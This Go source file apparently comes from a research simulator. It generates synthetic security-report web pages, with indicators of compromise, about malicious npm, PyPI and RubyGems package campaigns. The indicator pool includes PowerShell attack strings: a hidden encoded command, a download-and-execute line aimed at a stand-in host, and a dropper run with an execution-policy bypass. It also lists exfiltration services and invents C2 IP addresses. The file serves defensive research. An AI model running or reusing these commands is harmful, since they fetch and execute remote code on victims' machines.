@@ -1,0 +1,378 @@
+package world
+
+import (
+	"fmt"
+	"sort"
+	"strings"
+	"time"
+
+	"malgraph/internal/attacker"
+	"malgraph/internal/ecosys"
+	"malgraph/internal/reports"
+	"malgraph/internal/webworld"
+	"malgraph/internal/xrand"
+)
+
+// buildWeb synthesises the report-bearing internet of §III-D: 68 websites
+// across the Table III categories, ≈1,366 security reports covering the
+// most visible campaigns (Table IX), the Fig. 14 IoC distribution, and
+// enough irrelevant pages that the crawler's filters have work to do.
+func (w *World) buildWeb(rng *xrand.RNG) error {
+	plan := w.Config.reportPlan()
+
+	sites := buildSites(plan)
+	urlPool := buildURLPool(rng, plan)
+	ipPool, hotIPs := buildIPPool(rng, plan)
+	psPool := powershellPool(plan)
+
+	reported := w.selectReportedCampaigns(plan)
+	if len(reported) == 0 {
+		return fmt.Errorf("world: no campaigns to report")
+	}
+
+	// Distribute the report budget across reported campaigns ∝ sqrt(size).
+	reportCounts := make([]int, len(reported))
+	total := 0
+	for i, c := range reported {
+		reportCounts[i] = 1 + int(sqrtf(float64(len(c.Packages)))/2)
+		total += reportCounts[i]
+	}
+	for total < plan.totalReports {
+		i := rng.Intn(len(reported))
+		reportCounts[i]++
+		total++
+	}
+	for total > plan.totalReports {
+		i := rng.Intn(len(reported))
+		if reportCounts[i] > 1 {
+			reportCounts[i]--
+			total--
+		}
+	}
+
+	urlCursor, ipCursor, psCursor := 0, 0, 0
+	hotUsed := make(map[string]bool, len(hotIPs))
+	siteReportSeq := make(map[string]int)
+	var pageLinksBySite = make(map[string][]string)
+
+	for ci, c := range reported {
+		pkgChunks := chunkPackages(c, reportCounts[ci])
+		var prevURL string
+		for ri, chunk := range pkgChunks {
+			site := pickSite(rng, sites)
+			siteReportSeq[site.name]++
+			pageURL := fmt.Sprintf("https://%s/reports/%04d", site.name, siteReportSeq[site.name])
+
+			coords := make([]ecosys.Coord, 0, len(chunk))
+			var latest time.Time
+			for _, rec := range chunk {
+				coords = append(coords, rec.Artifact.Coord)
+				if rec.RemovedAt.After(latest) {
+					latest = rec.RemovedAt
+				}
+			}
+
+			iocs := reports.IoCSet{}
+			nURLs := 1 + rng.Intn(3)
+			if c.Kind == attacker.KindFlood {
+				nURLs += 2
+			}
+			for k := 0; k < nURLs && urlCursor < len(urlPool); k++ {
+				iocs.URLs = append(iocs.URLs, urlPool[urlCursor])
+				urlCursor++
+			}
+			if rng.Bool(0.35) && ipCursor < len(ipPool) {
+				iocs.IPs = append(iocs.IPs, ipPool[ipCursor])
+				ipCursor++
+			}
+			// Hot C2 addresses recur across reports; §V-D saw the same IP
+			// up to 23 times, so the recurrence rate is kept low.
+			if rng.Bool(0.09) && len(hotIPs) > 0 {
+				hot := xrand.Pick(rng, hotIPs)
+				hotUsed[hot] = true
+				iocs.IPs = append(iocs.IPs, hot)
+			}
+			if psCursor < len(psPool) && rng.Bool(0.01) {
+				iocs.PowerShell = append(iocs.PowerShell, psPool[psCursor])
+				psCursor++
+			}
+
+			var behaviors []string
+			if c.Payload != 0 {
+				for _, b := range c.Payload.Behaviors() {
+					behaviors = append(behaviors, string(b))
+				}
+			}
+			title := reportTitle(rng, c, ri)
+			body := reports.Render(rng.Derive(pageURL), title, c.Eco, coords, iocs, behaviors)
+			rep := &reports.Report{
+				URL:         pageURL,
+				Site:        site.name,
+				Category:    site.category,
+				Title:       title,
+				Body:        body,
+				Packages:    coords,
+				IoCs:        iocs,
+				PublishedAt: latest.Add(6 * time.Hour),
+			}
+			w.Reports = append(w.Reports, rep)
+
+			links := []string{"https://" + site.name + "/index"}
+			if prevURL != "" {
+				links = append(links, prevURL) // follow-up cites the earlier report
+			}
+			page := &webworld.Page{
+				URL: pageURL, Site: site.name, Title: title, Body: body,
+				Links: links, IsReport: true,
+			}
+			if err := w.Web.AddPage(page); err != nil {
+				return fmt.Errorf("report page: %w", err)
+			}
+			pageLinksBySite[site.name] = append(pageLinksBySite[site.name], pageURL)
+			prevURL = pageURL
+		}
+	}
+
+	// Leftover pool entries are attached to an "IoC dump" appendix report so
+	// analysis sees the full Fig. 14 distribution; hot C2 IPs that happened
+	// never to be drawn are flushed the same way (every pool indicator was
+	// disclosed *somewhere* — the appendix is where).
+	var unusedHot []string
+	for _, hot := range hotIPs {
+		if !hotUsed[hot] {
+			unusedHot = append(unusedHot, hot)
+		}
+	}
+	if urlCursor < len(urlPool) || ipCursor < len(ipPool) || psCursor < len(psPool) || len(unusedHot) > 0 {
+		site := sites[0]
+		iocs := reports.IoCSet{
+			URLs:       urlPool[urlCursor:],
+			IPs:        append(append([]string(nil), ipPool[ipCursor:]...), unusedHot...),
+			PowerShell: psPool[psCursor:],
+		}
+		c := reported[0]
+		coords := []ecosys.Coord{c.Packages[0].Artifact.Coord}
+		title := "Quarterly IoC appendix for malicious package campaigns"
+		body := reports.Render(rng.Derive("appendix"), title, c.Eco, coords, iocs, nil)
+		pageURL := "https://" + site.name + "/reports/appendix"
+		rep := &reports.Report{
+			URL: pageURL, Site: site.name, Category: site.category, Title: title,
+			Body: body, Packages: coords, IoCs: iocs,
+			PublishedAt: w.Config.CollectAt.AddDate(0, -1, 0),
+		}
+		w.Reports = append(w.Reports, rep)
+		if err := w.Web.AddPage(&webworld.Page{
+			URL: pageURL, Site: site.name, Title: title, Body: body,
+			Links: []string{"https://" + site.name + "/index"}, IsReport: true,
+		}); err != nil {
+			return fmt.Errorf("appendix page: %w", err)
+		}
+		pageLinksBySite[site.name] = append(pageLinksBySite[site.name], pageURL)
+	}
+
+	// Site hubs + noise pages.
+	for _, site := range sites {
+		hubLinks := pageLinksBySite[site.name]
+		nNoise := 2 + rng.Intn(5)
+		for i := 0; i < nNoise; i++ {
+			noise := webworld.NoisePage(rng, site.name, i)
+			if err := w.Web.AddPage(noise); err != nil {
+				return fmt.Errorf("noise page: %w", err)
+			}
+			hubLinks = append(hubLinks, noise.URL)
+		}
+		hub := &webworld.Page{
+			URL:   "https://" + site.name + "/index",
+			Site:  site.name,
+			Title: site.name + " security research blog",
+			Body:  "Research on malicious package campaigns in open source registries: " + site.name,
+			Links: hubLinks,
+		}
+		if err := w.Web.AddPage(hub); err != nil {
+			return fmt.Errorf("hub page: %w", err)
+		}
+		// Commercial sites and individual blogs seed the crawl (§III-D).
+		if site.category == reports.CategoryCommercial || site.category == reports.CategoryIndividual {
+			w.SeedURLs = append(w.SeedURLs, hub.URL)
+		}
+	}
+	sort.Strings(w.SeedURLs)
+	sort.Slice(w.Reports, func(i, j int) bool { return w.Reports[i].URL < w.Reports[j].URL })
+	return nil
+}
+
+type site struct {
+	name     string
+	category reports.Category
+	weight   float64
+}
+
+func buildSites(plan reportPlan) []site {
+	var out []site
+	for _, sp := range plan.sites {
+		cat := reports.Category(sp.category)
+		for i := 0; i < sp.siteCount; i++ {
+			name := fmt.Sprintf("%s%d.example", strings.ToLower(strings.SplitN(cat.String(), " ", 2)[0]), i+1)
+			out = append(out, site{
+				name:     name,
+				category: cat,
+				weight:   float64(sp.reportTarget) / float64(sp.siteCount),
+			})
+		}
+	}
+	return out
+}
+
+func pickSite(rng *xrand.RNG, sites []site) site {
+	weights := make([]float64, len(sites))
+	for i, s := range sites {
+		weights[i] = s.weight
+	}
+	return sites[rng.WeightedIndex(weights)]
+}
+
+// buildURLPool emits the Fig. 14 domain distribution plus a long tail, one
+// unique URL per entry.
+func buildURLPool(rng *xrand.RNG, plan reportPlan) []string {
+	var pool []string
+	emit := func(domain string, n int) {
+		for i := 0; i < n; i++ {
+			pool = append(pool, fmt.Sprintf("https://%s/p/%s%04d", domain, domain[:2], i))
+		}
+	}
+	used := 0
+	for _, dw := range plan.domainWeights {
+		emit(dw.domain, dw.count)
+		used += dw.count
+	}
+	tail := plan.urlCount - used
+	tailDomains := []string{
+		"files.pythonhosted.example", "grabify.link", "oastify.com", "pastebin.com",
+		"rentry.co", "termbin.com", "webhook.site", "requestbin.example",
+	}
+	for i := 0; i < tail; i++ {
+		d := tailDomains[i%len(tailDomains)]
+		pool = append(pool, fmt.Sprintf("https://%s/t/%05d", d, i))
+	}
+	// Shuffle deterministically so domains interleave across reports.
+	rng.Shuffle(len(pool), func(i, j int) { pool[i], pool[j] = pool[j], pool[i] })
+	return pool
+}
+
+// buildIPPool emits plan.ipCount unique IPs; seven "hot" C2 addresses are
+// returned separately and re-appear across many reports (§V-D observed the
+// same IP up to 23 times).
+func buildIPPool(rng *xrand.RNG, plan reportPlan) (pool, hot []string) {
+	hotBases := []string{"46.226", "51.178", "81.24", "141.95", "135.181", "195.201", "5.135"}
+	for _, base := range hotBases {
+		hot = append(hot, fmt.Sprintf("%s.%d.%d", base, rng.Intn(200)+10, rng.Intn(254)+1))
+	}
+	n := plan.ipCount - len(hot)
+	for i := 0; i < n; i++ {
+		pool = append(pool, fmt.Sprintf("%d.%d.%d.%d", 11+rng.Intn(180), rng.Intn(256), rng.Intn(256), 1+rng.Intn(254)))
+	}
+	return pool, hot
+}
+
+func powershellPool(plan reportPlan) []string {
+	all := []string{
+		"powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+		"powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('hxxp://bad/ps1')\"",
+		"powershell -ExecutionPolicy Bypass -File dropper.ps1",
+		"powershell -Command Start-Process -FilePath update.exe -WindowStyle Hidden",
+	}
+	if plan.powershellCount < len(all) {
+		return all[:plan.powershellCount]
+	}
+	return all
+}
+
+// selectReportedCampaigns picks the campaigns that security reports cover:
+// per ecosystem, the largest campaigns (flood first) up to the Table IX
+// subgraph counts.
+func (w *World) selectReportedCampaigns(plan reportPlan) []*attacker.Campaign {
+	perEco := map[ecosys.Ecosystem]int{
+		ecosys.NPM:      plan.npmGroups,
+		ecosys.PyPI:     plan.pypiGroups,
+		ecosys.RubyGems: plan.rubyGroups,
+	}
+	var out []*attacker.Campaign
+	for eco, n := range perEco {
+		cands := make([]*attacker.Campaign, 0)
+		for _, c := range w.Campaigns {
+			if c.Eco == eco && len(c.Packages) >= 2 {
+				cands = append(cands, c)
+			}
+		}
+		sort.Slice(cands, func(i, j int) bool {
+			if (cands[i].Kind == attacker.KindFlood) != (cands[j].Kind == attacker.KindFlood) {
+				return cands[i].Kind == attacker.KindFlood
+			}
+			if len(cands[i].Packages) != len(cands[j].Packages) {
+				return len(cands[i].Packages) > len(cands[j].Packages)
+			}
+			return cands[i].ID < cands[j].ID
+		})
+		if len(cands) > n {
+			cands = cands[:n]
+		}
+		out = append(out, cands...)
+	}
+	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
+	return out
+}
+
+// chunkPackages splits a campaign's packages (in release order) into n
+// chunks; consecutive chunks share two packages so the campaign's reports
+// form one co-existing component (§III-D).
+func chunkPackages(c *attacker.Campaign, n int) [][]*attacker.PackageRecord {
+	pkgs := append([]*attacker.PackageRecord(nil), c.Packages...)
+	sort.Slice(pkgs, func(i, j int) bool { return pkgs[i].ReleasedAt.Before(pkgs[j].ReleasedAt) })
+	if n < 1 {
+		n = 1
+	}
+	if n > len(pkgs) {
+		n = len(pkgs)
+	}
+	per := len(pkgs) / n
+	var out [][]*attacker.PackageRecord
+	for i := 0; i < n; i++ {
+		start := i * per
+		end := start + per
+		if i == n-1 {
+			end = len(pkgs)
+		}
+		chunk := pkgs[start:end]
+		if i > 0 && start >= 2 {
+			chunk = append(pkgs[start-2:start:start], chunk...) // overlap ties reports together
+		}
+		out = append(out, chunk)
+	}
+	return out
+}
+
+func reportTitle(rng *xrand.RNG, c *attacker.Campaign, seq int) string {
+	templates := []string{
+		"Malicious %s packages deliver %s payloads (part %d)",
+		"New wave of malicious packages floods the %s registry: %s campaign continues (update %d)",
+		"Supply chain attack: %s registry targeted by %s malware, report %d",
+		"Hunting malicious %s packages: %s indicators of compromise, volume %d",
+	}
+	flavor := c.Kind.String()
+	if c.Payload != 0 {
+		behaviors := c.Payload.Behaviors()
+		flavor = string(behaviors[0])
+	}
+	return fmt.Sprintf(xrand.Pick(rng, templates), c.Eco, flavor, seq+1)
+}
+
+func sqrtf(x float64) float64 {
+	if x <= 0 {
+		return 0
+	}
+	z := x
+	for i := 0; i < 20; i++ {
+		z = (z + x/z) / 2
+	}
+	return z
+}
